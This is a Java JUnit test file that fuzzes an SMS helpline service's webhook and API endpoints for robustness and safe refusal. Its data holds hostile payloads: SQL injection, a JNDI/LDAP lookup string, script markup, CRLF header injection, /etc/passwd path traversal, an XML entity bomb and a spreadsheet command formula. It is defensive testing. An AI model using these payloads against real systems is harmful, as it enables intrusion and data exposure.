package org.amparo.walks;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.amparo.harness.Canary;
import org.amparo.harness.CanaryEar;
import org.amparo.harness.Knock;
import org.amparo.harness.Phone;
import org.amparo.harness.SignedForm;
import org.amparo.harness.TestLine;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;

/// Whatever comes to any address of the program: what can be a person's text is answered or kept, everything else
/// is refused in clear words; nothing of it is repeated, logged or breaks anything.
@Timeout(120)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileTest {
    @RegisterExtension
    static final TestLine line = TestLine.open();

    private static final String MARK = "zorbhostile";
    private static final String MESSAGES = "/twilio/messages";
    private static final String FORM = "Content-Type: application/x-www-form-urlencoded";
    private static final String JSON = "Content-Type: application/json";
    private static final Pattern INSIDES = Pattern.compile(
            "Exception|\\tat |\\.java|org\\.amparo|micronaut|jackson|netty|jdbi|postgres|SELECT |Caused by",
            Pattern.CASE_INSENSITIVE);

    private final Canary canary = Canary.of(List.of("+447700900391"), List.of(MARK));
    private final CanaryEar ear = CanaryEar.listen(canary);
    private int ids;

    @BeforeAll
    void listen() {
        ear.finest();
    }

    @AfterAll
    void nothing_was_said_of_it() {
        ear.close();
        assertEquals(List.of(), canary.taken(), "what was sent is in a log");
        assertEquals(List.of(), ear.errors(), "something failed in our own code");
    }

    @TestFactory
    @Order(1)
    Stream<DynamicTest> a_text_is_answered_or_kept_whatever_it_holds() {
        var texts = new LinkedHashMap<String, String>();
        texts.put("SQL", "'; DROP TABLE contact; -- zorbhostile");
        texts.put("a template", "${7*7} zorbhostile");
        texts.put("another template", "{{7*7}} #{7*7} <%= 7*7 %> @{7*7}");
        texts.put("a phrase pattern", "{count, plural, one {# zorbhostile} other {#}}");
        texts.put("a broken phrase pattern", "{count, plural, '{' {");
        texts.put("a parameter of ours", "{emergencyNumber} {serviceName} {name}");
        texts.put("a lookup", "${jndi:ldap://203.0.113.1/a}");
        texts.put("markup", "]]></Message><Redirect>https://example.org</Redirect><script>alert(1)</script>");
        texts.put("line breaks as in headers", "hello\r\nSet-Cookie: zorbhostile=1\r\n\r\nHTTP/1.1 200 OK");
        texts.put("NUL", "\0\0help me he locked the door\0");
        texts.put("NUL alone", "\0");
        texts.put("controls", "\u0001\u0002\u0007\b\u001b[31mzorbhostile\u007f\u0085");
        texts.put("no characters", "\uFFFE\uFFFF\uD83F\uDFFE\uFDD0");
        texts.put("direction signs", "\u202E\u2066\u2067\u2068\u200F zorbhostile \u2069\u202C");
        texts.put("invisible", "\u200B\u200C\u200D\uFEFF\u2060");
        texts.put("spaces of every kind", "\u00A0\u2003\u3000\u1680");
        texts.put("marks over marks", "h" + "\u0301\u0489\u035C".repeat(500));
        texts.put("marks alone", "\u0301".repeat(300));
        texts.put("joined faces", "👩‍👩‍👧‍👦".repeat(140));
        texts.put("tag letters", "\uDB40\uDC73\uDB40\uDC74\uDB40\uDC6F\uDB40\uDC70 zorbhostile");
        texts.put("flags", "🇷🇴🇬🇧".repeat(100));
        texts.put("a ligature of 18 letters", "ﷺ".repeat(800));
        texts.put("Zawgyi and more", "\u1031\u1019\u102D\u102F\u1037".repeat(200));
        texts.put("one long word", "z".repeat(1_600));
        texts.put("as long as a webhook can be", "zorbhostile ".repeat(5_000));
        texts.put("a pattern that backtracks", "(a+)+$ " + "a".repeat(1_400) + "!");
        texts.put("a huge number", "9".repeat(1_000));
        texts.put("a number below zero", "-1");
        texts.put("a power", "1e309");
        texts.put("digits of all scripts", "١२৩๔၅６");
        texts.put("a format", "%s%s%n%x%99999999d");
        texts.put("a path", "../../../../etc/passwd\0.txt");
        texts.put("JSON", "{\"a\":".repeat(300));
        texts.put("XML entities", "<!DOCTYPE a [<!ENTITY b \"bbb\"><!ENTITY c \"&b;&b;\">]>&c;");
        texts.put("Base64 of nothing readable", "/+8AAQID".repeat(40));
        texts.put("Base64 that is none", "QUJD".repeat(40) + "=");
        texts.put("a formula", "=cmd|' /C calc'!A0");
        texts.put("the key of a prototype", "__proto__ constructor");
        texts.put("danger among signs", "\u202Ehelp\u202C me \u200Bhe locked the door\0zorbhostile");
        return texts.entrySet().stream()
                .map(one -> DynamicTest.dynamicTest(one.getKey(), () -> taken(Map.of("Body", one.getValue()))));
    }

    @TestFactory
    @Order(2)
    Stream<DynamicTest> a_text_is_answered_or_kept_whatever_comes_with_it() {
        var fields = new LinkedHashMap<String, Map<String, String>>();
        fields.put("nothing in it", Map.of("Body", ""));
        fields.put("pictures below zero", Map.of("NumMedia", "-1"));
        fields.put("more pictures than there are", Map.of("NumMedia", "9".repeat(40)));
        fields.put("pictures in words", Map.of("NumMedia", "zorbhostile"));
        fields.put("a place that is none", Map.of("Latitude", "NaN", "Longitude", "1e999"));
        fields.put("a button of no number", Map.of("ButtonPayload", "999999999999", "ButtonText", "${1}"));
        fields.put("a row below zero", Map.of("ListId", "-1", "ListTitle", "\0"));
        fields.put("segments without sense", Map.of("NumSegments", "-2147483649"));
        fields.put("a stop the carrier knows nothing of", Map.of("OptOutType", "zorbhostile"));
        fields.put("a name of signs", Map.of("ProfileName", "\u202E" + MARK + "\0'; --"));
        var many = new LinkedHashMap<String, String>();
        for (int i = 0; i < 2_000; i++) {
            many.put(MARK + i, "");
        }
        fields.put("two thousand unknown fields", many);
        return fields.entrySet().stream()
                .map(one -> DynamicTest.dynamicTest(one.getKey(), () -> taken(one.getValue())));
    }

    private void taken(Map<String, String> more) {
        var phone = line.phone();
        var fields = fields(phone);
        fields.put("Body", "hello");
        fields.putAll(more);
        var answer = signed(MESSAGES, fields).at(url());
        assertEquals(200, answer.status(), answer::text);
        assertTrue(answer.text().endsWith("<Response/>"), answer::text);
        line.settle();
        var heard = phone.hearsAnything();
        assertTrue(!heard.isEmpty() || !Rows.of(line, phone).keptTexts().isEmpty(), "neither answered nor kept");
        for (var one : heard) {
            assertFalse(one.body().contains(MARK) || INSIDES.matcher(one.body()).find(), one::body);
        }
    }

    private record Case(String name, int status, Knock knock) {}

    @TestFactory
    @Order(3)
    Stream<DynamicTest> what_is_no_text_of_a_person_is_refused_or_left() {
        return Stream.of(signatures(), forms(), types(), methods(), paths(), heads(), others())
                .flatMap(List::stream)
                .map(one -> DynamicTest.dynamicTest(one.name(), () -> refused(one)));
    }

    private List<Case> signatures() {
        var all = new ArrayList<Case>();
        for (var path : List.of(MESSAGES, "/twilio/fallback", "/twilio/message-status?row=1", "/twilio/calls")) {
            var raw = SignedForm.encoded(fields(stranger()));
            all.add(new Case("no signature " + path, 403, post(path, raw, FORM)));
            all.add(new Case("an empty signature " + path, 403, post(path, raw, FORM, "X-Twilio-Signature: ")));
            all.add(new Case(
                    "a signature of half the world " + path,
                    403,
                    post(path, raw, FORM, "X-Twilio-Signature: " + "A".repeat(5_000))));
            var elsewhere = form().signature("http://test/twilio/other", fields(stranger()));
            all.add(new Case("signed for another address " + path, 403, post(path, raw, FORM, sign(elsewhere))));
            var old = new SignedForm(url(), "http://test", "an-old-token")
                    .signature("http://test" + path, fields(stranger()));
            all.add(new Case("an old token " + path, 403, post(path, raw, FORM, sign(old))));
        }
        return all;
    }

    private List<Case> forms() {
        var whole = SignedForm.encoded(fields(stranger()));
        return List.of(
                rawSigned("nothing at all", 400, "", Map.of()),
                refusedForm("no id", 400, "MessageSid", null),
                refusedForm("an id that is SQL", 400, "MessageSid", "SM1' OR '1'='1"),
                refusedForm("an id without end", 400, "MessageSid", "S".repeat(5_000)),
                refusedForm("no sender", 400, "From", null),
                refusedForm("a blank sender", 400, "From", " "),
                refusedForm("a sender that is a script", 400, "From", "<script>" + MARK + "</script>"),
                refusedForm("a sender below zero", 400, "From", "-447700900391"),
                refusedForm("a sender of 20,000 digits", 400, "From", "+" + "4".repeat(20_000)),
                refusedForm("a sender with NUL", 400, "From", "+44\0" + "7700900391"),
                refusedForm("a sender of an unknown kind", 400, "From", "carrier-pigeon:" + MARK),
                refusedForm("no line", 400, "To", null),
                refusedForm("a line of somebody else", 200, "To", "+15005550006"),
                refusedForm("a line that is SQL", 200, "To", "' OR 1=1 --"),
                rawSigned("a broken escape", 400, whole + "&Body=%zz" + MARK, Map.of()),
                rawSigned("half an escape", 400, whole + "&Body=%4", Map.of()),
                rawSigned("bytes that are no UTF-8", 400, whole + "&Body=%ff%fe", Map.of()),
                rawSigned("an overlong slash", 400, whole + "&Body=%c0%af", Map.of()),
                rawSigned("half a pair", 400, whole + "&Body=%ed%a0%80", Map.of()),
                rawSigned("over 64 kB", 413, whole + "&Body=" + "a".repeat(70_000), Map.of()),
                rawSigned("signs without names", 403, "&&&===&=" + MARK, Map.of()));
    }

    private List<Case> types() {
        var raw = SignedForm.encoded(fields(stranger()));
        var signature = sign(form().signature("http://test" + MESSAGES, fields(stranger())));
        var all = new ArrayList<Case>();
        for (var type : List.of(
                "application/json",
                "text/plain",
                "multipart/form-data; boundary=zorbhostile",
                "multipart/form-data",
                "application/x-www-form-urlencoded; charset=utf-16",
                "application/xml",
                "zorbhostile",
                "*/*",
                ";;;",
                "application/x-java-serialized-object")) {
            all.add(new Case("as " + type, 403, post(MESSAGES, raw, "Content-Type: " + type, signature)));
        }
        return all;
    }

    private List<Case> methods() {
        var all = new ArrayList<Case>();
        for (var method : List.of("PUT", "DELETE", "PATCH", "TRACE", "BREW")) {
            all.add(new Case(method, 405, Knock.of(method, MESSAGES + "?Body=" + MARK)));
        }
        all.add(new Case("GET with a text in the address", 405, Knock.get(MESSAGES + "?Body=" + MARK)));
        return all;
    }

    private List<Case> paths() {
        return List.of(
                gets(405, "/twilio/../../etc/" + MARK),
                gets(404, "/" + MARK + "/%2e%2e/%2e%2e/etc/passwd"),
                gets(404, "/assets/..%2f..%2fapplication.yml"),
                gets(404, "/phone/assets/%2e%2e%2fcast.yml"),
                gets(404, "/..;/health/" + MARK),
                gets(404, "/application.yml"),
                gets(404, "/env"),
                gets(404, "/beans"),
                gets(404, "/actuator/" + MARK),
                gets(404, "/en/" + MARK + "/1"),
                gets(404, "/en/rights/99999999999999999999"),
                gets(404, "/en/rights/-1"),
                gets(404, "/" + "a/".repeat(2_000)),
                gets(404, "/" + "%F0%9F%98%80".repeat(300)),
                gets(400, "/%zz" + MARK),
                gets(413, "/" + MARK + "a".repeat(40_000)));
    }

    private List<Case> heads() {
        return List.of(
                gets(200, "/api/v1/languages", "Accept-Language: " + "zz-ZZ;q=9.9,".repeat(500)),
                gets(200, "/api/v1/topics", "Accept-Language: *;q=zorbhostile, ,,;;=, 🙂"),
                gets(200, "/", "Accept-Language: " + "x-" + "a".repeat(5_000)),
                gets(200, "/", "Accept-Language: ../../etc, ${7*7}"),
                gets(200, "/api/v1/topics", "If-None-Match: " + "\"zorbhostile".repeat(300)),
                gets(200, "/api/v1/topics", "Range: bytes=-1-,99999999999999-"),
                gets(200, "/health", "X-Forwarded-For: zorbhostile", "X-HTTP-Method-Override: DELETE"),
                gets(200, "/health", "Cookie: " + "zorbhostile=1; ".repeat(300)));
    }

    private List<Case> others() {
        var texts = "/phone/api/texts";
        return List.of(
                json(400, texts, "{\"from\":5,\"body\":[]}"),
                json(400, texts, "{\"from\":\"" + MARK + "\",\"body\":\"a\"}"),
                json(400, texts, "[".repeat(8_000)),
                json(400, texts, "{\"from\":\"+447700900391\",\"body\":\"" + "a".repeat(2_000) + "\"}"),
                json(400, texts, "{\"from\":\"+447700900391\",\"body\":\"a\",\"line\":\"" + MARK + "\"}"),
                json(400, texts, ""),
                json(400, "/phone/api/clock", "{\"forward\":\"" + MARK + "\"}"),
                json(400, "/phone/api/clock", "{\"forward\":\"PT-1S\"}"),
                json(400, "/phone/api/clock", "{\"forward\":\"P99999999999D\"}"),
                json(400, "/phone/api/faults", "{\"name\":\"" + MARK + "\"}"),
                json(400, "/phone/api/faults", "{\"name\":\"calls-fail\",\"times\":1e99}"),
                gets(400, "/phone/api/messages?after=" + MARK),
                gets(400, "/phone/api/messages?after=99999999999999999999"),
                gets(200, "/phone/api/messages?after=-1&limit=-5"),
                json(400, "/api/v1/answers", "{\"text\":{\"" + MARK + "\":1}}"),
                json(413, "/api/v1/answers", "{\"text\":\"" + "a".repeat(70_000) + "\"}"));
    }

    private void refused(Case one) {
        var answer = one.knock().at(url());
        assertEquals(one.status(), answer.status(), answer::text);
        assertFalse(INSIDES.matcher(answer.text()).find(), answer::text);
        assertFalse(answer.text().contains(MARK) || answer.headers().toString().contains(MARK), answer::text);
        if (answer.status() >= 400) {
            var type = answer.header("content-type");
            boolean page = type.startsWith("text/html");
            assertTrue(page || type.startsWith("text/plain") || type.equals("application/problem+json"), type);
            assertTrue(answer.text().length() > 5, "says what is wrong");
        }
        if (!one.knock().target().startsWith("/phone/api/messages")) {
            line.expectNothingMore();
        }
    }

    @Test
    @Order(3)
    void the_access_log_tells_route_status_and_duration() {
        Knock.get("/api/v1/topics/documents?lang=" + MARK, "User-Agent: " + MARK)
                .at(url());
        var told = ear.said("org.amparo.access").getLast();
        assertTrue(told.matches("/api/v1/topics/\\{id\\} \\d+ \\d+"), told);
        ear.said("org.amparo.access").forEach(one -> assertTrue(one.matches("(none|/.*) \\d{3} \\d+"), one));
    }

    @Test
    @Order(4)
    void the_program_is_well_afterwards() {
        assertEquals(200, Knock.get("/health").at(url()).status());
        line.phone().texts("no me pagan el sueldo desde enero").hears("sys.welcome-known", "es");
        line.sql()
                .useHandle(handle -> assertEquals(
                        0,
                        handle.createQuery("SELECT count(*) FROM unhandled")
                                .mapTo(Integer.class)
                                .one(),
                        "no text stays unhandled"));
    }

    private String url() {
        return line.node().url();
    }

    private SignedForm form() {
        var token = line.node().program().context().getRequiredProperty("amparo.simulator.token", String.class);
        return new SignedForm(url(), "http://test", token);
    }

    private Phone stranger() {
        return line.phone("+447700900391");
    }

    private Map<String, String> fields(Phone phone) {
        var fields = new LinkedHashMap<String, String>();
        fields.put("MessageSid", "SMhostile" + (phone.number().endsWith("391") ? 0 : ++ids));
        fields.put("From", phone.number());
        fields.put("To", "+447700900000");
        fields.put("NumMedia", "0");
        return fields;
    }

    private Knock signed(String path, Map<String, String> fields) {
        return post(path, SignedForm.encoded(fields), FORM, sign(form().signature("http://test" + path, fields)));
    }

    private Case rawSigned(String name, int status, String raw, Map<String, String> fields) {
        return new Case(
                name, status, post(MESSAGES, raw, FORM, sign(form().signature("http://test" + MESSAGES, fields))));
    }

    private Case refusedForm(String name, int status, String field, @Nullable String value) {
        var fields = fields(stranger());
        fields.put("Body", MARK);
        if (value == null) {
            fields.remove(field);
        } else {
            fields.put(field, value);
        }
        return new Case(name, status, signed(MESSAGES, fields));
    }

    private static Knock post(String path, String body, String... headers) {
        return Knock.post(path, body.getBytes(StandardCharsets.UTF_8), headers);
    }

    private static Case json(int status, String path, String body) {
        return new Case(path + " " + shortened(body), status, post(path, body, JSON));
    }

    private static Case gets(int status, String path, String... headers) {
        return new Case(
                "GET " + shortened(path) + " " + shortened(String.join(" ", headers)),
                status,
                Knock.get(path, headers));
    }

    private static String shortened(String text) {
        return text.length() < 60 ? text : text.substring(0, 60) + "… (" + text.length() + ")";
    }

    private static String sign(String signature) {
        return "X-Twilio-Signature: " + signature;
    }
}
